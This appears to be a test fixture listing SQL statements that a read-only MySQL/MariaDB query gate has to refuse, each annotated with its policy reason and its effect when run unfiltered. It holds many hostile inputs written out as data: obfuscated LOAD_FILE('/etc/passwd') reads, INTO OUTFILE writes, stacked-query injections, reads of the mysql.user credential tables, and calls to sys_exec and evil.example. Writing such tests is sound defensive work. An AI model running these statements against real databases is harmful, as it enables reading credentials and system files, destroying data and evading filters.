-- Statements that must be refused before they reach MySQL or MariaDB.
-- Each begins at a line `--! reason; alone outcome`: the reason that the policy gives, and what a read-only
-- session of an ordinary role on MariaDB 10.11 makes of it when nothing has judged it. For the second layer
-- does not stop all of it:
--   transaction  refused: the transaction is read-only
--   rights       refused: the role may not (a superuser may)
--   protocol     refused: one statement at a time, or not by this protocol
--   fails        another error: what it speaks of does not exist there, or only MySQL knows it
--   runs         it runs; the transaction's rollback and the session's reset leave nothing of it, yet what it
--                shows, holds up or does elsewhere is not undone
--   lasts        it runs, and the server is not what it was
--! statement; alone rights
INSERT INTO accounts (balance) VALUES (1)
--! statement; alone rights
REPLACE INTO staging VALUES (1)
--! statement; alone rights
UPDATE accounts SET balance = 0
--! statement; alone rights
DELETE FROM accounts
--! statement; alone transaction
TRUNCATE accounts
--! statement; alone transaction
DROP TABLE accounts
--! statement; alone rights
CREATE TABLE loot AS SELECT * FROM accounts
--! statement; alone rights
CREATE TEMPORARY TABLE loot (a int)
--! statement; alone rights
CREATE VIEW loot AS SELECT 1
--! statement; alone transaction
CREATE FUNCTION loot() RETURNS int RETURN 1
--! statement; alone transaction
ALTER TABLE accounts ADD COLUMN loot int
--! statement; alone transaction
GRANT ALL ON app.* TO 'reader'@'%'
--! statement; alone transaction
SET PASSWORD = PASSWORD('loot')
--! statement; alone runs
SET sql_mode = 'ANSI_QUOTES,NO_BACKSLASH_ESCAPES'
--! statement; alone rights
SET GLOBAL general_log = 1
--! statement; alone runs
SET max_statement_time = 0
--! statement; alone runs
SET STATEMENT max_statement_time = 0 FOR SELECT 1
--! statement; alone runs
SET @loot = 1
--! statement; alone runs
START TRANSACTION READ WRITE
--! statement; alone runs
BEGIN
--! statement; alone runs
COMMIT
--! statement; alone runs
ROLLBACK
--! statement; alone runs
SET SESSION TRANSACTION READ WRITE
--! statement; alone transaction
CALL pay_everyone()
--! statement; alone transaction
DO writes()
--! statement; alone runs
DO SLEEP(0)
--! statement; alone runs
HANDLER accounts OPEN
--! statement; alone fails
HANDLER accounts READ FIRST
--! statement; alone rights
FLUSH TABLES
--! statement; alone rights
FLUSH TABLES WITH READ LOCK
--! statement; alone rights
LOCK TABLES accounts READ
--! statement; alone runs
UNLOCK TABLES
--! statement; alone protocol
PREPARE p FROM 'DELETE FROM accounts'
--! statement; alone protocol
EXECUTE p
--! statement; alone protocol
EXECUTE IMMEDIATE 'DELETE FROM accounts'
--! statement; alone fails
KILL 1
--! statement; alone rights
SHUTDOWN
--! statement; alone rights
RESET MASTER
--! statement; alone rights
PURGE BINARY LOGS BEFORE '2030-01-01'
--! statement; alone rights
CHANGE MASTER TO MASTER_HOST = 'evil.example'
--! statement; alone transaction
INSTALL SONAME 'ha_spider'
--! statement; alone rights
LOAD DATA INFILE '/etc/passwd' INTO TABLE staging
--! statement; alone rights
LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE staging
--! statement; alone rights
ANALYZE TABLE accounts
--! statement; alone transaction
OPTIMIZE TABLE accounts
--! statement; alone transaction
REPAIR TABLE plain
--! statement; alone runs
CHECKSUM TABLE accounts
--! statement; alone rights
BINLOG 'bG9vdA=='
--! statement; alone fails
XA START 'loot'
--! statement; alone rights
EXPLAIN DELETE FROM accounts
--! statement; alone rights
ANALYZE DELETE FROM accounts
--! statement; alone fails
EXPLAIN FOR CONNECTION 1
--! statement; alone fails
SHOW EXPLAIN FOR 1
--! statement; alone fails
WITH d AS (SELECT 1 AS id) DELETE FROM accounts
--! statement; alone fails
WITH d AS (DELETE FROM accounts RETURNING *) SELECT * FROM d
--! statement; alone fails
WITH d AS (INSERT INTO staging VALUES (3) RETURNING id) SELECT * FROM d
--! statement; alone rights
SELECT * FROM accounts INTO OUTFILE '/tmp/loot_out'
--! statement; alone rights
SELECT 'loot' INTO DUMPFILE '/tmp/loot_dump'
--! statement; alone rights
SELECT id INTO OUTFILE '/tmp/loot_middle' FROM accounts
--! statement; alone rights
(SELECT 1) UNION (SELECT 2) INTO OUTFILE '/tmp/loot_union'
--! statement; alone fails
TABLE accounts INTO OUTFILE '/tmp/loot_table'
--! statement; alone rights
VALUES (1), (2) INTO OUTFILE '/tmp/loot_values'
--! statement; alone runs
SELECT 1 INTO @loot
--! statement; alone runs
SELECT 1.INTO @loot
--! statement; alone runs
SELECT @loot := 1
--! statement; alone runs
SELECT @n := @n + 1 FROM accounts
--! statement; alone runs
SELECT id FROM accounts PROCEDURE ANALYSE()
--! statement; alone rights
/*!50000 DELETE FROM accounts */
--! statement; alone runs
SELECT 1 /*! , LOAD_FILE('/etc/passwd') */
--! statement; alone rights
SELECT 1 /*!50000 INTO OUTFILE '/tmp/loot_comment' */
--! statement; alone runs
SELECT 1 /*M!100000 , 2 */
--! statement; alone runs
SELECT /*! SQL_NO_CACHE */ 1
--! statement; alone runs
SELECT /*+ SET_VAR(sql_mode = 'ANSI_QUOTES') */ 1
--! statement; alone runs
SELECT /*+ NO_MERGE(x) MAX_EXECUTION_TIME(0) */ * FROM (SELECT 1) AS x
--! statement; alone runs
SELECT /*+ RESOURCE_GROUP(loot) */ 1
--! statement; alone runs
SHOW CREATE USER CURRENT_USER()
--! statement; alone runs
SHOW GRANTS
--! statement; alone rights
SHOW BINLOG EVENTS
--! statement; alone fails
SHOW CREATE SERVER loot
--! multiple_statements; alone protocol
SELECT 1; DROP TABLE accounts
--! multiple_statements; alone protocol
SELECT 1; SELECT 2
--! multiple_statements; alone protocol
SELECT 1 --x
; DELETE FROM accounts
--! multiple_statements; alone protocol
SELECT '\''; DELETE FROM accounts -- '
--! locking; alone transaction
SELECT * FROM accounts FOR UPDATE
--! locking; alone transaction
SELECT * FROM accounts FOR UPDATE SKIP LOCKED
--! locking; alone runs
SELECT * FROM accounts LOCK IN SHARE MODE
--! locking; alone fails
SELECT * FROM accounts FOR SHARE
--! locking; alone transaction
SELECT * FROM (SELECT * FROM accounts FOR UPDATE) x
--! locking; alone runs
SELECT 1 FROM dual WHERE EXISTS (SELECT 1 FROM accounts LOCK IN SHARE MODE)
--! function; alone runs
SELECT LOAD_FILE('/etc/passwd')
--! function; alone runs
SELECT load_file ('/etc/passwd')
--! function; alone runs
SELECT `Load_File`('/etc/passwd')
--! function; alone runs
SELECT LOAD_FILE/**/('/etc/passwd')
--! function; alone runs
SELECT LOAD_FILE -- a comment
('/etc/passwd')
--! function; alone fails
SELECT LOÀD_FILE('/etc/passwd')
--! function; alone runs
SELECT * FROM accounts WHERE id = LENGTH(LOAD_FILE('/etc/passwd'))
--! function; alone runs
SELECT id FROM accounts ORDER BY LENGTH(LOAD_FILE('/etc/passwd'))
--! function; alone runs
SELECT COUNT(*) OVER (ORDER BY LOAD_FILE('/etc/passwd')) FROM accounts
--! function; alone runs
SELECT j.a FROM JSON_TABLE(LOAD_FILE('/etc/passwd'), '$' COLUMNS (a INT PATH '$')) AS j
--! function; alone runs
EXPLAIN SELECT LOAD_FILE('/etc/passwd')
--! function; alone runs
SHOW VARIABLES WHERE LOAD_FILE('/etc/passwd') IS NULL
--! function; alone runs
SELECT CONCAT('--', LOAD_FILE('/etc/passwd'))
--! function; alone runs
SELECT 1--LENGTH(LOAD_FILE('/etc/passwd'))
--! function; alone runs
SELECT 'a\\', LOAD_FILE('/etc/passwd')
--! function; alone runs
SELECT 'a''', LOAD_FILE('/etc/passwd'), ''
--! function; alone runs
SELECT GET_LOCK('loot', 0)
--! function; alone runs
SELECT RELEASE_LOCK('loot')
--! function; alone runs
SELECT RELEASE_ALL_LOCKS()
--! function; alone transaction
SELECT NEXTVAL(numbers_of_orders)
--! function; alone transaction
SELECT NEXT VALUE FOR numbers_of_orders
--! function; alone transaction
SELECT next /* */ value for app.numbers_of_orders
--! function; alone transaction
SELECT SETVAL(numbers_of_orders, 100)
--! function; alone runs
SELECT LAST_INSERT_ID(100)
--! function; alone runs
SELECT MASTER_POS_WAIT('a', 4, 1)
--! function; alone runs
SELECT MASTER_GTID_WAIT('0-1-1', 0)
--! function; alone fails
SELECT WAIT_FOR_EXECUTED_GTID_SET('3E11FA47-71CA-11E1-9E33-C80AA9429562:1-5', 1)
--! function; alone fails
SELECT sys_exec('touch /tmp/loot_run')
--! function; alone fails
SELECT sys_eval('id')
--! function; alone fails
SELECT http_get('http://evil.example/')
--! function; alone fails
SELECT spider_direct_sql('DELETE FROM accounts', '', 'srv "s"')
--! function; alone fails
SELECT keyring_key_fetch('k')
--! function; alone fails
SELECT group_replication_set_as_primary('x')
--! relation; alone rights
SELECT * FROM mysql.user
--! relation; alone rights
SELECT authentication_string FROM `mysql`.`user`
--! relation; alone rights
SELECT * FROM mysql . global_priv
--! relation; alone rights
SELECT (SELECT GROUP_CONCAT(Priv) FROM mysql.global_priv)
--! relation; alone rights
SELECT * FROM accounts a JOIN mysql.`servers` s ON 1 = 1
--! relation; alone rights
SELECT * FROM mysql.general_log
--! relation; alone fails
TABLE mysql.db
--! relation; alone rights
SELECT * FROM mysql/* */.proxies_priv
--! statement; alone runs
USE information_schema
